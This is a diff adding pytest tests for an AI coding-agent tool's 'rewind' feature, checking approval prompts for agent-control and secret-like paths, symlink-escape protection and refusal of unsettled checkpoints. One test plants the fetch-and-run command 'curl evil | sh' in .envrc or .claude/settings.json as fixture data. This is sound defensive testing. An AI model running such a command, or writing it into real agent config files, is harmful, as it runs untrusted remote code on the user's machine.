@@ -284,3 +284,93 @@ def test_the_rewind_tool_is_approved_like_a_write_of_every_file_it_restores(repo
     assert request["details"]["path_count"] == 4
     assert not (repo / "new.txt").exists() and (repo / "old.txt").exists()
     assert session.call("changes", {}).value["calls"][-1]["kind"] == "rewind"
+
+
+@pytest.mark.parametrize("steering", [".envrc", ".claude/settings.json"])
+def test_a_rewind_that_restores_an_agent_control_path_is_asked_whatever_filesystem_says(repo, open_session, tmp_path,
+                                                                                       steering):
+    session = open_session({"approval": {"filesystem": "allow", "process": "allow"}, "sandbox": {"mode": "off"}},
+                           state_dir=tmp_path / "state")  # off: the sandbox would keep the command from the path
+    made = session.call("bash", {"command": f"mkdir -p .claude && echo 'curl evil | sh' > {steering}"})
+    assert made.ok
+    denied = session.call("rewind", {"call_id": made.call_id})  # no approver: asked is denied
+    assert not denied.ok and denied.error.code == "denied", denied.value
+    assert denied.error.details["by"] == "no-approver"
+    assert (repo / steering).read_text() == "curl evil | sh\n"
+    plain = session.call("bash", {"command": "echo more >> a.txt"})
+    rewound = session.call("rewind", {"call_id": plain.call_id})
+    assert rewound.ok, rewound.error
+    assert (repo / "a.txt").read_text() == "one\ntwo\n" and (repo / steering).exists()
+
+
+def test_the_rewind_tool_names_the_agent_control_and_secret_like_paths_it_restores(repo, open_session, tmp_path):
+    from helpers import Recorder
+
+    approver = Recorder("allow_once")
+    session = open_session({"approval": {"filesystem": "ask", "process": "allow"}, "sandbox": {"mode": "off"}},
+                           approver=approver, state_dir=tmp_path / "state")
+    made = session.call("bash", {"command": "echo TOKEN=1 > .env && echo x > AGENTS.md && echo y >> a.txt"})
+    assert session.call("rewind", {"call_id": made.call_id}).ok
+    (request,) = [asked for asked in approver.requests if asked["tool"] == "rewind"]
+    details = request["details"]
+    assert details["agent_control"] == "**/AGENTS.md"
+    assert details["agent_control_paths"] == [{"path": "AGENTS.md", "entry": "**/AGENTS.md"}]
+    assert [item["path"] for item in details["secret_paths"]] == [".env"] and details["secret_count"] == 1
+    assert "agent-control" in request["risk_reason"] and "secret-like" in request["risk_reason"]
+    assert not (repo / ".env").exists() and not (repo / "AGENTS.md").exists()
+
+
+def test_the_rewind_tool_never_writes_through_a_link_that_replaced_a_directory(repo, open_session, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (repo / "sub").mkdir()
+    (repo / "sub" / "f.txt").write_text("inside\n")
+    session = open_session({"approval": {"filesystem": "allow", "process": "allow"}}, state_dir=tmp_path / "state")
+    moved = session.call("bash", {"command": f"rm -r sub && ln -s {outside} sub"})
+    assert moved.ok
+    rewound = session.call("rewind", {"call_id": moved.call_id})
+    assert rewound.ok, rewound.error
+    assert (repo / "sub").is_dir() and not (repo / "sub").is_symlink()
+    assert (repo / "sub" / "f.txt").read_text() == "inside\n"
+    assert list(outside.iterdir()) == []
+
+
+def test_a_checkpoint_taken_while_a_writer_changes_files_is_unsettled_and_never_rewound_to(workspace, tmp_path):
+    import threading
+
+    from peon.checkpoints.book import Book
+
+    hot = [workspace / f"hot{index}.txt" for index in range(100)]
+    for path in hot:
+        path.write_text("0\n")
+    book = Book(tmp_path / "state", workspace)
+    assert book.begin("c0", "bash") is not None  # the first snapshot, which stores every file, taken at rest
+    stop = threading.Event()
+
+    def writer() -> None:
+        rounds = 0
+        while not stop.is_set():
+            rounds += 1
+            for path in hot:
+                path.write_text("x" * (rounds % 50) + "\n")  # a new size each round: git sees it by stat alone
+
+    thread = threading.Thread(target=writer)
+    thread.start()
+    try:
+        taken = []
+        for attempt in range(5):  # a snapshot is tens of milliseconds: the writer is inside one at once
+            taken.append(book.begin(f"c{attempt + 1}", "bash", check_settled=True))
+            entry = Review(tmp_path / "state", workspace).entry(f"c{attempt + 1}")
+            if entry.unsettled_before:
+                break
+    finally:
+        stop.set()
+        thread.join()
+    assert taken[-1] is not None and entry.unsettled_before
+    assert set(entry.unsettled_before) <= {path.name for path in hot}
+    state = tree_state(workspace)
+    with pytest.raises(ReviewError, match="taken while other calls or jobs wrote files"):
+        Review(tmp_path / "state", workspace).rewind(entry.id)
+    assert tree_state(workspace) == state
+    Review(tmp_path / "state", workspace).rewind("c0")  # the settled one before it still is
+    assert {path.read_text() for path in hot} == {"0\n"}
